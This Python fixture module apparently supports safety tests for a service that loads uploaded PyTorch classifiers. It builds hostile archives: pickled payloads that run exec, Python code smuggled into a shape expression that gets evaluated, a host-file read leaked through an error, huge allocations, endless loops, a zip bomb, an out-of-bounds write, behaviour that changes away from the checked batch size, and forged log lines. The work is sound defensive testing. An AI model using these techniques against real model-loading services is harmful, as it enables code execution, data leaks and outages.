"""Classifier archives for the safety tests: legitimate exports of a tiny classifier, and archives crafted as an
attacker would (pickled weights, code in shape expressions, file reads, huge allocations, endless loops, zip bombs).

Every hostile payload that would run code creates a marker file: a test proves nothing ran by its absence.
"""

from __future__ import annotations

import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch
from torch import nn

from fgs_common.wire import ClassifierOutput, ClassifierSpec

SPEC = ClassifierSpec(num_classes=10, input_size=32, output=ClassifierOutput.logits_embedding)


class TinyClassifier(nn.Module):
    """Conv, pool, two linear layers: (logits, embedding), small enough to export in a second."""

    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(3, 4, kernel_size=4, stride=4)
        self.embed = nn.Linear(4, 8)
        self.head = nn.Linear(8, 10)

    def forward(self, x: torch.Tensor) -> tuple[torch.Tensor, torch.Tensor]:
        embedding = torch.relu(self.embed(torch.relu(self.conv(x)).mean(dim=(2, 3))))
        return self.head(embedding), embedding


def export_archive(path: Path, dynamic_batch: bool, batch: int = 2) -> Path:
    """A `.pt2` exported the normal way: a static batch of `batch`, or a dynamic batch dimension."""
    torch.manual_seed(0)
    model = TinyClassifier().eval()
    example = (torch.rand(batch, 3, 32, 32),)
    dynamic = ({0: torch.export.Dim("batch", min=1, max=1024)},) if dynamic_batch else None
    torch.export.save(torch.export.export(model, example, dynamic_shapes=dynamic), str(path))
    return path


def script_archive(path: Path, module: nn.Module) -> Path:
    torch.jit.save(torch.jit.script(module), str(path))
    return path


class _CreatesMarker:
    """Unpickling this creates `marker` (it stands for any code an attacker would run)."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (exec, (f"open({str(self.marker)!r}, 'w').close()",))


def marker_pickle(marker: Path) -> bytes:
    return pickle.dumps(_CreatesMarker(marker))


def rewrite_zip(source: Path, target: Path, change: Callable[[str, dict[str, bytes]], None]) -> Path:
    """Copy a zip archive, letting `change(root, members)` edit its members (by full name) on the way."""
    with zipfile.ZipFile(source) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    root = next(iter(members)).split("/", 1)[0]
    change(root, members)
    with zipfile.ZipFile(target, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return target


def pt2_with_pickled_weight(source: Path, target: Path, marker: Path) -> Path:
    """Marks one weight `use_pickle` and stores a pickle in its place: torch.export.load would unpickle it."""

    def change(root: str, members: dict[str, bytes]) -> None:
        config_name = f"{root}/data/weights/model_weights_config.json"
        config = json.loads(members[config_name])
        entry = next(iter(config["config"].values()))
        entry["use_pickle"] = True
        members[config_name] = json.dumps(config).encode()
        members[f"{root}/data/weights/{entry['path_name']}"] = marker_pickle(marker)

    return rewrite_zip(source, target, change)


def pt2_with_pickled_sample_inputs(source: Path, target: Path, marker: Path) -> Path:
    """Sample inputs that weights_only refuses: torch.export.load retries them with weights_only=False."""

    def change(root: str, members: dict[str, bytes]) -> None:
        members[f"{root}/data/sample_inputs/model.pt"] = marker_pickle(marker)

    return rewrite_zip(source, target, change)


def pt2_with_code_in_shape_expression(source: Path, target: Path, marker: Path) -> Path:
    """A symbolic size whose expression is Python: torch.export.load passes it to sympy.sympify (an eval)."""

    def change(root: str, members: dict[str, bytes]) -> None:
        name = f"{root}/models/model.json"
        program = json.loads(members[name])
        tensor = next(iter(program["graph_module"]["graph"]["tensor_values"].values()))
        code = f"__import__('builtins').exec(\"open({str(marker)!r}, 'w').close()\") or 2"
        tensor["sizes"][0] = {"as_expr": {"expr_str": code, "hint": {"as_int": 2}}}
        members[name] = json.dumps(program).encode()

    return rewrite_zip(source, target, change)


def pt2_with_pkl_member(source: Path, target: Path, marker: Path) -> Path:
    def change(root: str, members: dict[str, bytes]) -> None:
        members[f"{root}/data/objects.pkl"] = marker_pickle(marker)

    return rewrite_zip(source, target, change)


class ReadsFile(nn.Module):
    """Reads a host file with torch.from_file and raises with its bytes: the old check echoed that text."""

    def __init__(self, path: str, size: int):
        super().__init__()
        self.path = path
        self.size = size
        self.head = nn.Linear(3, 10)

    def forward(self, x: torch.Tensor) -> tuple[torch.Tensor, torch.Tensor]:
        data: list[int] = torch.from_file(self.path, size=self.size, dtype=torch.uint8).long().tolist()
        raise RuntimeError("leak " + "".join([chr(byte) for byte in data]))


class AllocatesHugely(nn.Module):
    """Asks for `gib` GiB on every forward (uncommitted, so only an address-space limit stops it)."""

    def __init__(self, gib: int):
        super().__init__()
        self.gib = gib
        self.head = nn.Linear(3, 10)

    def forward(self, x: torch.Tensor) -> tuple[torch.Tensor, torch.Tensor]:
        waste = torch.empty(self.gib * 1024 * 1024 * 1024, dtype=torch.uint8)
        features = x.mean(dim=(2, 3)) + waste[0].float() * 0
        return self.head(features), features


class SpinsForever(nn.Module):
    """Loops on the CPU for far longer than any check may take."""

    def __init__(self):
        super().__init__()
        self.head = nn.Linear(3, 10)

    def forward(self, x: torch.Tensor) -> tuple[torch.Tensor, torch.Tensor]:
        total = 0
        for i in range(1 << 60):
            total = (total + i) % 7
        features = x.mean(dim=(2, 3)) + total
        return self.head(features), features


def with_zip_bomb(source: Path, target: Path, unpacked_bytes: int) -> Path:
    """A real archive plus one tensor file of `unpacked_bytes` zeros that deflate to about a thousandth."""
    with zipfile.ZipFile(source) as archive:
        root = archive.namelist()[0].split("/", 1)[0]
    rewrite_zip(source, target, lambda _, members: None)
    info = zipfile.ZipInfo(f"{root}/data/999")
    info.compress_type = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(target, "a") as archive, archive.open(info, "w", force_zip64=True) as member:
        chunk = bytes(1 << 24)
        for _ in range(unpacked_bytes // len(chunk)):
            member.write(chunk)
    return target


# Issue 19's run-time findings: classifiers that behave at the check's batch of 2 and not at any other (the 2 is
# written out in each: TorchScript does not read a module-level constant).


class WritesOutOfBounds(nn.Module):
    """At any batch but the check's, `_sparse_coo_tensor_unsafe(index, values, [4]).to_dense()` with an index far
    out of range: the dense copy writes 2**40 elements past its buffer (SIGSEGV every time, torch 2.13 CPU)."""

    def __init__(self, index: int = 1 << 40):
        super().__init__()
        self.index = index
        self.head = nn.Linear(3, 10)

    def forward(self, x: torch.Tensor) -> tuple[torch.Tensor, torch.Tensor]:
        features = x.mean(dim=(2, 3))
        if x.shape[0] != 2:
            index = torch.full([1, 1], self.index, dtype=torch.long)
            dense = torch.ops.aten._sparse_coo_tensor_unsafe(index, torch.ones(1), [4]).to_dense()
            features = features + dense.sum() * 0
        return self.head(features), features


class AllocatesAtOtherBatches(nn.Module):
    """Asks for `gib` GiB at any batch but the check's (uncommitted: only an address-space limit stops it)."""

    def __init__(self, gib: int):
        super().__init__()
        self.gib = gib
        self.head = nn.Linear(3, 10)

    def forward(self, x: torch.Tensor) -> tuple[torch.Tensor, torch.Tensor]:
        features = x.mean(dim=(2, 3))
        if x.shape[0] != 2:
            waste = torch.empty(self.gib * 1024 * 1024 * 1024, dtype=torch.uint8)
            features = features + waste[0].float() * 0
        return self.head(features), features


class SpinsAtOtherBatches(nn.Module):
    """Loops on the CPU at any batch but the check's."""

    def __init__(self):
        super().__init__()
        self.head = nn.Linear(3, 10)

    def forward(self, x: torch.Tensor) -> tuple[torch.Tensor, torch.Tensor]:
        total = 0
        if x.shape[0] != 2:
            for i in range(1 << 60):
                total = (total + i) % 7
        features = x.mean(dim=(2, 3)) + total
        return self.head(features), features


class PrintsEveryForward(TinyClassifier):
    """The tiny classifier, printing a line that looks like the worker's own log on every forward."""

    def forward(self, x: torch.Tensor) -> tuple[torch.Tensor, torch.Tensor]:
        print("2026-12-06 12:00:00 fgs.worker INFO job forged finished")
        embedding = torch.relu(self.embed(torch.relu(self.conv(x)).mean(dim=(2, 3))))
        return self.head(embedding), embedding
